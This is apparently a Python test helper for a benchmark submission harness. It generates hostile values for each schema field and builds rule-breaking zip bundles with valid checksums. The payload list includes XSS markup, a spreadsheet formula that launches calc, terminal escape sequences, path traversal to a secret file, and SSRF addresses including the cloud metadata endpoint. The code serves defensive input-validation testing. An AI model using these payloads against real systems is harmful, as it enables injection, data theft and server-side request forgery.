"""What a stranger may write into each field of a submission, generated from its schema."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from collections.abc import Iterator, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Any

from harness.board.submission import schema
from harness.board.submission.bundle import MANIFEST
from harness.board.submission.entry import Entry, checksum

GROUPS: Mapping[str, Mapping[str, schema.Rule]] = {
    "": schema.RECORD,
    "submitter": schema.SUBMITTER,
    "model": schema.MODEL,
    "benchmark": schema.BENCHMARK,
    "detail": schema.DETAIL,
}
"""Fields of a record by the group that they stand in."""

IMAGE = "<img src=x onerror=\"document.title='taken'\"></script><script>alert(1)</script>"
CALC = '=HYPERLINK("https://example.org/?"&A1,"cmd|\' /C calc\'!A0")'
SCREEN = "\x1b]0;taken\x07\x1b[2J\x9b31m\u202e"


def payloads(secret: Path) -> list[Any]:
    """Return what is put into a field: markup, formulas, escapes, selections, addresses, sizes.

    Parameters
    ----------
    secret : Path
        A file that nobody may open.
    """
    return [
        IMAGE,
        "javascript:document.title='taken'",
        CALC,
        "@SUM(1+1)",
        SCREEN,
        "a\x00b",
        f"file:{secret}",
        f"data:{secret.parent}",
        f"{secret}",
        f"none:calibration=file:{secret}",
        f"hf:x/y,file:{secret}",
        f"../../../../../../..{secret}",
        "https://127.0.0.1:9/x.gguf",
        "http://169.254.169.254/latest/meta-data",
        "*",
        "[]",
        "{}",
        '{"requests": 7, "score": [], "variant": "x"}',
        "[" * 20_000,
        "x" * 300_000,
        "",
        None,
        True,
        -1,
        10**400,
        1e308,
        [],
        {},
        [{"a": 1}],
        {"compressor": {"method": ["none"]}},
    ]


def fields(record: Mapping[str, Any]) -> Iterator[tuple[Any, ...]]:
    """Give the path of each field of a record: those of the schema, and those of its mappings."""
    for group, rules in GROUPS.items():
        for name in rules:
            yield (group, name) if group else (name,)
    yield from ((name,) for name in ("submitter", "model", "benchmark", "plugins", "cells"))
    for name in schema.PLUGIN:
        yield ("plugins", 0, name)
    for name in (*schema.CELL, "compressor"):
        yield ("cells", 0, name)
    for name in schema.COMPRESSOR:
        yield ("cells", 0, "compressor", name)
    for facts in ("provenance", "compression"):
        for name in record["cells"][0][facts]:
            yield ("cells", 0, facts, name)


def put(record: Mapping[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    """Return a record with another value in one field."""
    changed = deepcopy(dict(record))
    at: Any = changed
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return changed


LONGEST = 60_000
"""Characters of a member's name: a zip file holds no longer ones."""


def write_raw(record: Mapping[str, Any], detail: bytes, path: Path) -> Path:
    """Write a bundle as a stranger can: all checksums right, and no rule kept."""
    text = json.dumps(record, indent=1, sort_keys=True, ensure_ascii=True).encode() + b"\n"
    try:
        entry = Entry(record, detail)
        text, stem = entry.text, f"{entry.folder}/{entry.id}"
    except Exception:
        stem = f"toy@1/model@abc/{hashlib.sha256(text).hexdigest()[:16]}"
    if len(stem) > LONGEST:
        stem = f"toy@1/model@abc/{hashlib.sha256(text).hexdigest()[:16]}"
    members = {f"{stem}.json": text, f"{stem}.nc": detail}
    manifest = {
        "schema": 1,
        "submitter": record.get("submitter"),
        "files": {name: checksum(content) for name, content in members.items()},
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as bundle:
        bundle.writestr(MANIFEST, json.dumps(manifest))
        for name, content in members.items():
            bundle.writestr(name, content)
    path.write_bytes(packed.getvalue())
    return path
